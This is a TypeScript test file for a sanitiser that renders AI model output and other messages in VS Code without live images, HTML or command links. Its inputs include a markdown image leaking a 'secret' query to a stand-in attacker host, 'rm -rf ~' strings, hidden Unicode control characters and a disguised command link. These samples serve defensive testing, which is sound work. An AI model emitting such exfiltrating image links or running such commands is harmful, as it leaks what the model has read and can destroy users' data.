import assert from "node:assert/strict";
import { test } from "node:test";
import { code, dim, escape, harmless, Spoken, tail } from "../../src/markdown";
import { visible } from "../../src/visible";

test("pictures and HTML of a model are shown as text, and fetch nothing", () => {
  assert.equal(harmless("![x](https://evil.example/?q=secret) <img src=x> <b>"), "!\\[x](https://evil.example/?q=secret) &lt;img src=x> &lt;b>");
  assert.equal(harmless("a Vec<String>, 1 < 2"), "a Vec&lt;String>, 1 < 2");
  assert.equal(harmless("</span><!-- -->"), "&lt;/span>&lt;!-- -->");
});

test("code stays as it is", () => {
  for (const text of ["`a < b` and ``a`b``", "```go\na < b\n```\n", "~~~\n1\n~~~\n", "1. a\n   ```\n   b\n   ```\n2. c"]) assert.equal(harmless(text), text);
  assert.equal(harmless("`Vec<String>` and ``a`<b>``"), "<code>Vec&lt;String\\></code> and <code>a\\`&lt;b\\></code>");
  assert.equal(harmless("```html\n<b>![x](y)</b>\n```\n<b>"), "\n```html\n<b>![x](y)</b>\n```\n\n&lt;b>");
  assert.equal(harmless("~~~\n<b>\n"), "\n```text\n<b>\n```\n\n");
  assert.equal(harmless("````\n```\n<b>\n````"), "\n````text\n```\n<b>\n````\n\n");
  assert.equal(harmless("1. a\n    ```cpp\n    T<a>\n      x\n    ```\n2. b"), "1. a\n\n```cpp\nT<a>\n  x\n```\n\n2. b", "in a list too");
  assert.equal(harmless("a ` b <b>\n\nc ` <i>"), "a ` b &lt;b>\n\nc ` &lt;i>", "a span of code ends within its paragraph");
});

// What is code to us and not to the markdown of VS Code would draw its pictures, and so tell somebody what a model has read: this
// is the same parser, and what models could think of. Each of the first texts was a hole once.
test("VS Code finds no picture and no HTML in what a model said, nor in what else is shown", async () => {
  const { marked } = await import("marked");
  const marks = ["`", "``", "```", "~~~", "\n", "\n\n", " ", "  ", "   ", "    ", "\t", "\r\n", "- ", "> ", "10. ", "# ", "===\n", "| a | b |\n|---|---|\n", "\\", "*", "_", "|", "[", "]", "(u)", "!", "<", "$"];
  const words = ["a", "word", "go", "&lt;", "https://e", "[r]: https://e", "![r][r]", "![r]", "![a](https://e/x)", "<img src=x>", "<b>", "</b>", "<!-- ", "-->", "<span>", "</span>", "<code>", "<pre>", "</pre>"];
  const texts = ["\\`<img src=x>`", "- a\n  ```\n<img src=x>\n", "- ```\n  a\n  ```\n<img src=x>\n```", "```https://e<img src=x>```*`"];
  let seed = 1;
  const random = (below: number): number => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return Math.floor((seed / 0x80000000) * below);
  };
  for (let i = 0; i < 10_000; i++) texts.push(Array.from({ length: 1 + random(14) }, () => { const from = random(2) === 0 ? marks : words; return from[random(from.length)]; }).join(""));
  for (const text of texts) {
    const all = [
      harmless(text), dim(text), harmless(tail(text, 20, 3).text), `*Why: ${escape(text)}*`, `${escape(text)}\n\n${code(`${text}:1`)}`,
      `${harmless(text)}\n\n✓ ${code(text)} · ✗ ${code(text.slice(3))} failed · ${code(text.slice(7))}`,
    ];
    for (const markdown of all) {
      const found: string[] = [];
      void marked.walkTokens(marked.lexer(markdown), (t) => {
        if (t.type === "image" || (t.type === "html" && t.raw.replace(/<span style="color:var\(--vscode-disabledForeground\);">|<\/span>|<\/?code>/g, "").includes("<"))) found.push(t.raw);
      });
      assert.deepEqual(found, [], `${JSON.stringify(text)} is shown as ${JSON.stringify(markdown)}`);
    }
  }
});

test("a picture that comes in pieces is none either", () => {
  const s = new Spoken();
  assert.equal(["Look!", "[x](https://evil.example", ") wow!", "! a![", "b](c)!"].map((t) => s.add(t)).join("") + s.rest(), "Look!\\[x](https://evil.example) wow!! a!\\[b](c)!");
});

test("a partial answer is dimmed also when it ends in a block of code", () => {
  assert.equal(dim("text\n```go\nfunc"), `${span("text")}\n\`\`\`go\nfunc\n\`\`\``);
});

const span = (words: string): string => `<span style="color:var(--vscode-disabledForeground);">${words}</span>`;

test("dimmed text stays what it is in markdown, and can be broken into lines", () => {
  assert.equal(dim("# One two\n\n- a **bold word** and `code`\n1. b"), `# ${span("One two")}\n\n- ${span("a")} **bold word** ${span("and")} ${span("`code`")}\n1. ${span("b")}`);
  assert.equal(dim("| a | b |\n|---|---|"), `| ${span("a")} | ${span("b")} |\n|---|---|`);
  for (const text of ["one two three four five six seven eight nine ten", "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十", "a-very-long-word-that-has-no-end-and-goes-on", "x <b> 😀".repeat(9), "  "]) {
    const spans = [...dim(text).matchAll(/<span[^>]*>([^<]*)<\/span>/g)].map((m) => m[1] ?? "");
    assert.ok(spans.every((s) => s.length <= 48), text);
    assert.equal(dim(text).replace(/<\/?span[^>]*>/g, ""), harmless(text), "no character is lost");
  }
});

test("what the user and others said is no markdown", () => {
  assert.equal(escape("*a* _b_ [c](d) `e`"), "\\*a\\* \\_b\\_ \\[c\\]\\(d\\) \\`e\\`");
  assert.equal(escape("(see https://a.example/b-c_d?e=1&f, and www.x)"), "\\(see <https://a.example/b-c_d?e=1&f>, and www\\.x\\)");
  assert.equal(code("a `b` c"), "``a `b` c``");
  assert.equal(code("`a"), "`` `a ``");
});

test("a command in a message hides nothing and links to nothing", () => {
  assert.equal(visible("rm -rf x\u202e\u0007\n# \u200bok"), "rm -rf x\\u{202e}\\u{7}⏎# \\u{200b}ok");
  assert.ok(!/\]\(/.test(visible("[Allow](command:workbench.action.quit)")));
  const long = visible("a".repeat(700) + "; rm -rf ~");
  assert.ok(long.endsWith("; rm -rf ~") && [...long].length < 650);
});

test("the end of a long text begins at a line or a word, and stays there while it grows", () => {
  assert.deepEqual(tail("short", 20, 10), { text: "short", before: 0 });
  const all = Array.from({ length: 60 }, (_, i) => `w${String(i + 1)}`);
  const shown = all.map((_, i) => tail(all.slice(0, i + 1).join(" "), 40, 10));
  for (const [i, t] of shown.entries()) {
    assert.ok(t.text.length <= 40 && t.text.endsWith(all[i] ?? ""), t.text);
    assert.equal(t.before + t.text.split(" ").length, i + 1, "words are shown or counted");
  }
  const begins = new Set(shown.map((t) => t.text.split(" ")[0]));
  assert.ok(begins.size <= 12, `it begins at ${String(begins.size)} places only`);
});

test("the end of a text of many lines is at most as many lines", () => {
  const t = tail(Array.from({ length: 50 }, (_, i) => `- ${String(i)}`).join("\n"), 900, 10);
  assert.equal(t.text.split("\n").length, 10);
  assert.ok(t.text.startsWith("- 40\n"));
});

test("the end of a block of code is a block of code", () => {
  const block = "Look:\n```go\n" + "x := <b>1</b>\n".repeat(50);
  const t = tail(block, 200, 10);
  assert.match(t.text, /^```\nx := /);
  assert.match(harmless(t.text), /^\n```text\nx := <b>1<\/b>\n/, "and what stands in it stays code");
  assert.match(tail(block + "```\n" + "words ".repeat(60), 200, 10).text, /^words /);
});
